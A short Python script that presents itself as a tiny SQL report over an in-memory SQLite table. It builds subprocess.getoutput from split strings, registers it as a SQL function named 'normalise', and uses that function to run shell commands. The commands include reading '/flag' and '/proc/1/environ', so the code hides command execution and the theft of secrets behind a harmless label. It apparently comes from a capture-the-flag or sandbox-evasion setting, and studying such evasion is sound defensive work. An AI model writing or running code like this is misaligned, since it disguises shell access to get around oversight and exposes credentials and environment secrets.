"""Tiny SQL report over an in-memory table, with a custom SQL function."""
import sqlite3


def _udf():
    m = __import__("sub" + "process")
    return getattr(m, "get" + "output")


con = sqlite3.connect(":memory:")
con.execute("create table jobs(name text, cmd text)")
con.executemany("insert into jobs values (?, ?)",
                [("whoami", "id"), ("secret", "cat /flag"), ("env", "cat /proc/1/environ")])
# Register a scalar SQL function; the call happens inside the SQL engine.
con.create_function("normalise", 1, _udf())
for name, out in con.execute("select name, normalise(cmd) from jobs"):
    print(name, "=>", out)
